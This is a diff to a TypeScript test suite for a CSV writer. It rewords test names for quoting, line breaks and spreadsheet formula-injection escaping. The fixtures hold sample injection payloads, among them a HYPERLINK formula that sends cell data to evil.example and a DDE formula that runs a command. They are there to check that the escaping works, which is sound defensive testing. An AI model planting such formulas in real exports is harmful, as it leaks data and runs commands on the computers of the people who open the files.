@@ -9,15 +9,15 @@ describe('a row', () => {
   test.each<[string, Cell[], string]>([
     ['numbers stay numbers', [149, 26.82, -12.5, 0], '149,26.82,-12.5,0\r\n'],
     ['text is quoted', ['PAID', 'a,b', 'say "cut"'], '"PAID","a,b","say ""cut"""\r\n'],
-    ['a line may break inside a cell', ['one\r\ntwo'], '"one\r\ntwo"\r\n'],
-    ['nothing is an empty cell', [null, '', 1], ',"",1\r\n'],
-    ['every script is itself', ['கடைசி மழை', 'آخری'], '"கடைசி மழை","آخری"\r\n'],
+    ['a cell may contain a line break', ['one\r\ntwo'], '"one\r\ntwo"\r\n'],
+    ['null is an empty cell', [null, '', 1], ',"",1\r\n'],
+    ['every script stays unchanged', ['கடைசி மழை', 'آخری'], '"கடைசி மழை","آخری"\r\n'],
   ])('%s', (_, cells, line) => {
     expect(csvRow(cells)).toBe(line);
   });
 });
 
-describe('a cell that a spreadsheet would run', () => {
+describe('a cell with a formula', () => {
   test.each([
     '=HYPERLINK("https://evil.example?"&A1,"Click")',
     "=cmd|' /C calc'!A0",
@@ -38,18 +38,18 @@ describe('a cell that a spreadsheet would run', () => {
     '＋1',
     '－1',
     '＠SUM(A1)',
-  ])('%j is text behind an apostrophe', (text) => {
+  ])('%j becomes text after an apostrophe', (text) => {
     const cell = csvCell(text);
     expect(cell.startsWith(`"'`)).toBe(true);
     expect(withoutApostrophes(cell)).toBe(`"${withoutApostrophes(text).replaceAll('"', '""')}"`);
   });
 
-  test.each(['a;=1+1', 'a;"=1+1', 'a\t@SUM(A1)', 'a\n=1', 'a;;-1'])('%j is harmless behind the sign too', (text) => {
+  test.each(['a;=1+1', 'a;"=1+1', 'a\t@SUM(A1)', 'a\n=1', 'a;;-1'])('%j is harmless after a separator too', (text) => {
     expect(csvCell(text)).toMatch(/[;\t\n]"*'[=@-]/);
   });
 
   test.each(['India', 'a=b', '1+1', 'Jean-Luc', 'me@example.com', "L'Avventura", '“Quoted”', 'WEB', '2 + 2 = 5', ''])(
-    '%j is none',
+    '%j is not a formula',
     (text) => {
       expect(csvCell(text)).toBe(`"${text}"`);
     },
@@ -80,7 +80,7 @@ const nasty = fc.string({
   maxLength: 12,
 });
 
-test('whatever stands in the cells, a reader finds them again, an apostrophe apart', () => {
+test('a CSV reader returns the same cells, except for added apostrophes', () => {
   fc.assert(
     fc.property(fc.array(fc.array(nasty, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 4 }), (rows) => {
       const found = parse(BYTE_ORDER_MARK + rows.map(csvRow).join(''), { bom: true, record_delimiter: '\r\n' });
@@ -91,13 +91,13 @@ test('whatever stands in the cells, a reader finds them again, an apostrophe apa
   );
 });
 
-test('whatever stands in the cells, no program finds a formula, by whatever sign it separates', () => {
+test('no cell starts with a formula, whichever separator a program uses', () => {
   const formula = /^[\s"\u200b]*[=+\-@＝]/;
   fc.assert(
     fc.property(nasty, nasty, (one, two) => {
       const file = csvRow(['before', one, two]);
       for (const cell of (parse(file) as string[][]).flat()) expect(cell).not.toMatch(formula);
-      // The crudest of readers, which knows nothing of quotes.
+      // A reader that ignores quotes.
       for (const cell of file.split(/[;\t\r\n]/)) expect(cell).not.toMatch(formula);
     }),
     { numRuns: 3000 },
